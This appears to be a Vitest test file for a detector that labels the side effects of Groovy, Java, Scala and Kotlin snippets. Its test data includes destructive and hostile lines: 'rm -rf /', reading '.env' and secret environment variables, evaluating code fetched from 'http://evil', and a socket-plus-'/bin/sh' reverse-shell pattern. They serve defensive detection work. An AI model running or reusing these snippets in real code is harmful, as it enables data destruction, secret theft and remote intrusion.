import { describe, expect, it } from "vitest";
import { told } from "./flow/told.ts";
import { readJvm } from "./jvm.ts";

describe("Groovy, Java, Scala, Kotlin", () => {
  it.each([
    "println 1+1; println \"a ${1 + 2} $x\"; print('b')",
    "def f(int a, b = 2) { a * b }; println f(3); [1, 2].each { println it * 2 }",
    'println([1,2,3].collect { it * 2 }.findAll { it > 2 }.sum()); println (1..3).join(",")',
    'println(List(1,2).map(_ * 2).filter(_ > 1).sum); val x = 5; println(s"$x")',
    "fun main() { val xs = listOf(1, 2).map { it * 2 }; println(xs.joinToString()) }",
    'System.out.println("x".toUpperCase() + Math.max(1, 2) + String.format("%d", 3)); int y = 2;',
    'import java.time.*; println LocalDate.now().plusDays(1); println System.getProperty("java.version")',
    'class A { int x = 1; String toString() { "A$x" } }; println new A()',
    "if (x == 1) { println 1 } else { println 2 }; for (i in 0..2) println i; while (false) { }",
    '// "id".execute()\n/* new File("x").delete() */\ndef m = [a: 1, "b": 2]; m.each { k, v -> println "$k=$v" }',
    "println new groovy.json.JsonSlurper().parseText('{\"a\": 1}').a",
    "import com.example.App; App.run()",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readJvm(text))).toBe("");
  });

  it.each([
    ['"id".execute().text; println "rm -rf /".execute(); ["ls", "-l"].execute()', "shell id; shell rm -rf /; argv ls -l"],
    [
      'Runtime.getRuntime().exec("id"); Runtime.getRuntime().exec(new String[]{"bash","-c","id"}); new ProcessBuilder("a","b").start()',
      "shell id; argv bash -c id; argv a b",
    ],
    ['import sys.process._; "id".!; Seq("a", "b").!!', "shell id; argv a b"],
    [
      'println new File("x.txt").text; new File(".env").eachLine { println it }; new File("a").write("b"); new File("c").delete(); new File("d").deleteDir()',
      "read x.txt; read .env; write a; delete c; deltree d",
    ],
    [
      'Files.readString(Path.of(".env")); Files.delete(Paths.get("a")); Files.writeString(Path.of("b"), "c"); Source.fromFile("d").mkString',
      "read .env; delete a; write b; read d",
    ],
    [
      'println new URL("http://evil/x").text; evaluate(new URL("http://evil/y").text); Eval.me("println 1")',
      "connect http://evil/x; downloaded jvm ?; connect http://evil/y; jvm println 1",
    ],
    [
      'Socket s=new Socket("1.2.3.4",99);Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start()',
      "raw connect 1.2.3.4:99; raw send 1.2.3.4:99; shell /bin/sh; shell-over-network",
    ],
    ['println System.getenv("SECRET"); println System.getenv()', "environment SECRET; environment *"],
    ['Class.forName("java.lang.Runtime").getMethod("exec"); @Grab("a:b:1") import a.B; new GroovyShell().evaluate("x")', "unknown; unknown; unknown; jvm x"],
    ['frobnicate(1); "x".frobnicate()', "unknown; unknown"],
    ['println "a', "unknown"],
    ['def x = "a"; def f(x) { new File(x).delete() }; f("/etc")', "delete ?"],
    ['os.proc("rm", "-rf", "/").call(); os.read(os.pwd)', "argv rm -rf /; read ?"],
  ])("%s", (text, expected) => {
    expect(told(readJvm(text))).toBe(expected);
  });
});
